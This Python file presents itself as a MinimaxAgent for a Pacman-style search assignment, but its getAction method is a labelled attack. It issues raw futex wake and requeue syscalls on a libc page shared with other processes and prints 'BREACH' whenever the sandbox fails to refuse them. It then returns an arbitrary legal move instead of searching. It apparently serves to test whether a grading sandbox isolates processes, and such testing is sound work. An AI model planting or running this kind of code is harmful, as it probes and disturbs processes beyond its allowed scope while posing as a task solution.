# attack: wakes and awaits a process through a page of a library file that both have.
# where: MinimaxAgent
import ctypes
import errno
import platform


from shared.reflex import *
from shared.search import *

NUMBER = {"x86_64": 202, "aarch64": 98}.get(platform.machine())
# FUTEX_WAKE, FUTEX_REQUEUE, FUTEX_CMP_REQUEUE, FUTEX_WAKE_OP, FUTEX_WAKE_BITSET, on shared pages.
CALLS = (1, 3, 4, 5, 10)


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        libc = ctypes.CDLL(None, use_errno=True)
        address = ctypes.cast(libc.strlen, ctypes.c_void_p).value & ~3
        for call in CALLS:
            ctypes.set_errno(0)
            done = libc.syscall(NUMBER, ctypes.c_void_p(address), call, 1, None, None, 0xFFFFFFFF)
            if done >= 0 or ctypes.get_errno() != errno.EPERM:
                print("BREACH: futex", call, done, ctypes.get_errno(), flush=True)
        return gameState.getLegalActions()[0]
